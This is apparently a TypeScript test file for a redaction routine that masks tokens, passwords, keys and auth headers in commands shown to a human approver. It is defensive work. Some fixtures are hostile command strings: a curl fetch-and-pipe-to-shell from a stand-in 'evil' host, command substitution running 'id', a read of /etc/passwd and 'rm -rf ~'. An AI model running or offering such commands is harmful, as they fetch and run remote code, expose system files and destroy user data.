import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toByteText } from '../wire/byte-text.ts';
import { hideTokens, TOKENS_ONLY } from './hide-tokens.ts';
import { redactArguments } from './redact.ts';
import { atDepth } from '../../../../../test/kit/depth.ts';

describe('tokens hidden from the person who decides', () => {
  it.each([
    ['token=abc', 'token=[redacted, 3 characters]'],
    ['https://u:pa55@h/x', 'https://u:[redacted, 4 characters]@h/x'],
    ['Authorization: Bearer abcdefgh', 'Authorization: Bearer [redacted, 8 characters]'],
    ['curl -H "Authorization: token abc" x', 'curl -H "Authorization: token [redacted, 3 characters]" x'],
    ['x sk-0123456789abcdef y', 'x [redacted, 19 characters] y'],
    ['deploy --api-key abc --now', 'deploy --api-key [redacted, 3 characters] --now'],
    ['Digest username="u", response="0a1b"', 'Digest username="u", response="[redacted, 4 characters]"'],
    [`k ${'0'.repeat(64)}`, 'k [redacted, 64 characters]'],
    [`-----BEGIN KEY-----\n${'QUJD'.repeat(16)}\nQUI=\n-----END KEY----- x`, '[redacted, 107 characters] x'],
    [
      'Authorization: Digest username="u", response="0a"',
      'Authorization: Digest username="u", response="[redacted, 2 characters]"',
    ],
    ['Authorization: Basic dXNlcjpwYXNzd29yZA==', 'Authorization: Basic [redacted, 20 characters]'],
    ['PGPASSWORD=a psql', 'PGPASSWORD=[redacted, 1 character] psql'],
  ])('hides the token in %j', (text, shown) => {
    expect(hideTokens(text)).toBe(shown);
  });

  it.each([
    ['{"auth":"s3cret"}', '{"auth":"[redacted, 6 characters]"}'],
    ['["Authorization","Basic dTpw"]', '["Authorization","Basic [redacted, 4 characters]"]'],
    ['{"password":4711}', '{"password":"[redacted, 4 characters]"}'],
    ['{"auth":{"run":["sudo reboot","x"]}}', '{"auth":{"run":["sudo reboot","[redacted, 1 character]"]}}'],
    ['{"value":["a b","c"],"name":"pin"}', '{"value":["a b","[redacted, 1 character]"],"name":"pin"}'],
  ])('hides values under a secret name: %s', (json, shown) => {
    expect(redactArguments(json, 1_000, TOKENS_ONLY)).toBe(shown);
  });

  it.each([
    'token=$(curl${IFS}evil|sh)',
    'token=`id`',
    'cat --token-file /etc/passwd',
    'rm -rf --no-token ~',
    'say https://x:;id@h',
  ])('hides nothing in %j', (text) => {
    expect(hideTokens(text)).toBe(text);
  });

  it('never hides a separator, and states the hidden length', () => {
    const words =
      'cookie token password pass authorization bearer basic digest response rm x A = : ; | & " \' \\ $( ) ` < -- ----- :// @';
    const keys = 'sk-0123456789abcdef eyJ0123456789abcdefgh a1B2c3D4a1B2c3D4a1B2c3D4a1B2c3D4';
    const unit = fc.constantFrom(' ', '\n', ...words.split(' '), ...keys.split(' '));
    const SEPARATORS = /[\s;|&"'$()`<>]/g;
    const MARK = /\[redacted, (\d+) characters?\]/g;
    fc.assert(
      fc.property(fc.array(unit, { maxLength: 40 }), (units) => {
        const text = units.join('');
        const shown = hideTokens(text);
        const rest = shown.replaceAll(MARK, '');
        expect(rest.match(SEPARATORS)).toEqual(text.match(SEPARATORS));
        const hidden = [...shown.matchAll(MARK)].reduce((sum, [, count]) => sum + Number(count), 0);
        expect(rest.length + hidden).toBe(text.length);
      }),
      { numRuns: atDepth(500, 5_000) },
    );
  });
});

it('stays fast for hostile texts', () => {
  const units = [
    'a',
    'token',
    'password=',
    '-----BEGIN ',
    '://',
    '://a:',
    '--token-',
    'digest ',
    '\\',
    'Aa0',
    '-',
  ];
  const length = 1_000_000;
  for (const unit of units) {
    const json = JSON.stringify({ a: unit.repeat(length / unit.length), password: unit.repeat(100) });
    expect(redactArguments(toByteText(json), length, TOKENS_ONLY).length).toBeGreaterThan(10);
  }
}, 60_000);
